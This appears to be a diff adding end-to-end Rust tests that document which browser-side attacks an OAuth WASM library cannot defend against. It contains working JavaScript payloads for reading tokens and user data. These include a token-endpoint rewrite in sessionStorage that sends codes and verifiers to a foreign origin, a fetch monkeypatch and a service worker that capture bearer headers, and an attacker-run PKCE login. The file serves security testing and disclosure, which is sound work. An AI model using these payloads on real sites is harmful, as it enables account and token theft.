@@ -1,0 +1,159 @@
+//! What cannot be defended, shown.
+//!
+//! Each test here shows what an attacker gets. Where one fails because the attack no longer works, that is good news,
+//! and SECURITY.md has to hear of it.
+
+use attacks::{ACCESS, fresh_session, plant_canaries};
+use e2e::{APP, PENDING, World, parameter};
+use serde_json::json;
+use url::Url;
+
+#[tokio::test]
+async fn script_in_the_page_can_call_and_read_what_the_application_can_and_start_a_login_of_its_own()
+ {
+    let world = World::start().await;
+    fresh_session(&world).await;
+    let script = "const [origin, config] = args
+        const theirs = await import('/pkg/oauth-wasm.js')
+        const stolen = await (await theirs.fetchPrivate(origin + '/users/me')).json()
+        let went
+        await theirs.startLogin({ ...config, navigate: url => { went = url } })
+        const session = await theirs.session()
+        return [stolen.email, went, session.scope]";
+    let args = [json!(world.sandbox_origin), world.config(json!({}))];
+    let seen = world.run(script, &args).await;
+    assert_eq!(
+        seen[0], "test_user_38730994@testuser.com",
+        "the user's data"
+    );
+    assert_eq!(seen[2], json!(["offline_access", "read", "write"]));
+
+    // Without the library, with a verifier of its own: it holds what it gets.
+    let url = Url::parse(seen[1].as_str().expect("a URL")).expect("a URL");
+    let challenge = "window.verifier = 'theirs-'.repeat(7)
+        const hash = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(verifier))
+        return btoa(String.fromCharCode(...new Uint8Array(hash))).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')";
+    let challenge = world.run(challenge, &[]).await;
+    let mut own = url.clone();
+    own.query_pairs_mut()
+        .clear()
+        .extend_pairs(url.query_pairs().map(|(name, value)| {
+            let value = match &*name {
+                "code_challenge" => challenge.as_str().expect("text").to_owned(),
+                "state" => "theirs".to_owned(),
+                _ => value.into_owned(),
+            };
+            (name.into_owned(), value)
+        }));
+    let code = parameter(&world.redirect(own.as_str()), "code").expect("a code");
+    let redeem = "const [endpoint, code, { clientId, redirectUri }] = args
+        const body = new URLSearchParams({ grant_type: 'authorization_code', code, code_verifier: verifier,
+            client_id: clientId, redirect_uri: redirectUri })
+        const answer = await (await fetch(endpoint, { method: 'POST', body })).json()
+        return [typeof answer.access_token, typeof answer.refresh_token]";
+    let endpoint = format!("{}/oauth/token", world.sandbox_origin);
+    let args = [json!(endpoint), json!(code), world.config(json!({}))];
+    let held = world.run(redeem, &args).await;
+    assert_eq!(held, json!(["string", "string"]));
+}
+
+#[tokio::test]
+async fn script_in_the_page_can_read_and_rewrite_the_record_of_a_login_that_waits() {
+    let world = World::start().await;
+    world.open_app(APP).await;
+    let url = world.begin(json!({})).await;
+    let state = parameter(&url, "state").expect("a state");
+    let script = "const key = args[0] + args[1]
+        const record = JSON.parse(sessionStorage[key])
+        record.config.tokenEndpoint = args[2] + '/token'
+        sessionStorage[key] = JSON.stringify(record)
+        return record.codeVerifier";
+    let args = [json!(PENDING), json!(state), json!(world.foreign.origin)];
+    let verifier = world.run(script, &args).await;
+    let redirect = world.redirect(&url);
+    let code = parameter(&redirect, "code").expect("a code");
+    let outcome = attacks::answer(&world, &redirect).await;
+    assert!(outcome["error"].is_object(), "{outcome}");
+    let foreign = world.foreign.requests();
+    let got = foreign.iter().find(|request| request.path == "/token");
+    let got = got.expect("the code went where the script sent it");
+    assert!(got.body.contains(&code), "{got:?}");
+    assert!(got.body.contains(verifier.as_str().expect("a verifier")));
+    assert_eq!(world.token_requests("authorization_code"), 0);
+}
+
+#[tokio::test]
+async fn natives_that_were_replaced_before_the_module_was_evaluated_see_the_token() {
+    let world = World::start().await;
+    plant_canaries(&world);
+    world.app.serve(
+        "/early.html",
+        "text/html",
+        "<!doctype html><title>early</title><link rel=icon href='data:,'>
+        <script>
+            window.seen = []
+            const { fetch } = window
+            window.fetch = async (input, init) => {
+                if (input instanceof Request) seen.push(input.headers.get('authorization'))
+                return fetch(input, init)
+            }
+        </script>
+        <script type=module src=/e2e/app.js></script>",
+    );
+    let home = format!("{}/early.html", world.app.origin);
+    world.open_app("/early.html").await;
+    world.leave(json!({ "redirectUri": home })).await;
+    let outcome = world.redirected().await;
+    assert!(outcome["session"].is_object(), "{outcome}");
+    let answer = world.fetch_private("/sites", json!({})).await;
+    assert_eq!(answer["value"]["status"], 200, "{answer}");
+    let seen = world.run("return seen", &[]).await;
+    assert_eq!(seen, json!([format!("Bearer {ACCESS}")]));
+}
+
+#[tokio::test]
+async fn a_service_worker_of_the_origin_sees_the_header_of_every_call() {
+    let world = World::start().await;
+    plant_canaries(&world);
+    world.app.serve(
+        "/worker.js",
+        "text/javascript",
+        "addEventListener('install', () => skipWaiting())
+        addEventListener('activate', event => event.waitUntil(clients.claim()))
+        addEventListener('fetch', event => {
+            const seen = event.request.headers.get('authorization')
+            if (seen) new BroadcastChannel('seen').postMessage(seen)
+        })",
+    );
+    world.open_app(APP).await;
+    let install = "await navigator.serviceWorker.register('/worker.js')
+        if (!navigator.serviceWorker.controller)
+            await new Promise(resolve => navigator.serviceWorker.addEventListener('controllerchange', resolve))
+        return true";
+    assert_eq!(world.run(install, &[]).await, true);
+    let redirect = world.redirect(&world.begin(json!({})).await);
+    let outcome = attacks::answer(&world, &redirect).await;
+    assert!(outcome["value"].is_object(), "{outcome}");
+    let script = "const seen = new Promise(resolve => {
+            new BroadcastChannel('seen').onmessage = ({ data }) => resolve(data)
+        })
+        await oauth.fetchPrivate(args[0] + '/sites')
+        return await seen";
+    let seen = world.run(script, &[json!(world.sandbox_origin)]).await;
+    assert_eq!(seen, format!("Bearer {ACCESS}"));
+}
+
+#[tokio::test]
+async fn the_browser_keeps_the_address_of_an_implicit_answer_where_script_can_read_it() {
+    let world = World::start().await;
+    world.open_app(APP).await;
+    let redirect = world.redirect(&world.begin(json!({ "responseType": "token" })).await);
+    let (_, fragment) = redirect.split_once("access_token=").expect("a token");
+    let token = fragment.split('&').next().expect("a token");
+    let outcome = world.come_back(&redirect).await;
+    assert!(outcome["session"].is_object(), "{outcome}");
+    let script = "return performance.getEntriesByType('navigation')[0].name";
+    let kept = world.run(script, &[]).await;
+    let kept = kept.as_str().expect("an address").contains(token);
+    assert_eq!(kept, world.engine != e2e::Engine::WebKit);
+}
